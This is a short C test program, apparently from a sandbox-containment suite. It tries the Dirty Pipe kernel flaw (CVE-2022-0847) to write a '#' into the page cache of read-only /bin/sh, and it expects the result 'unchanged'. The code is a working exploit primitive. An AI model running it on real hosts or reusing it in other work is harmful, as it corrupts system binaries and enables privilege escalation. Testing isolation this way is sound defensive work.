//: family = "files"
//: idea = "Writes into the page cache of a read-only file through a spliced pipe (CVE-2022-0847)."
//: ends = ["exited"]
//: says = "unchanged"
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    int ends[2];
    char page[4096] = {0}, byte = 0, now = 0;
    off64_t at = 1;
    int file = open("/bin/sh", O_RDONLY);
    pipe(ends);
    // Fill and empty the pipe, so that each of its buffers once was one that may be added to.
    int room = fcntl(ends[1], F_GETPIPE_SZ);
    for (int left = room; left > 0; left -= sizeof page) write(ends[1], page, sizeof page);
    for (int left = room; left > 0; left -= sizeof page) read(ends[0], page, sizeof page);
    pread(file, &byte, 1, 2);
    splice(file, &at, ends[1], NULL, 1, 0);
    write(ends[1], "#", 1);
    pread(file, &now, 1, 2);
    puts(byte == now ? "unchanged" : "ESCAPED: changed /bin/sh");
}
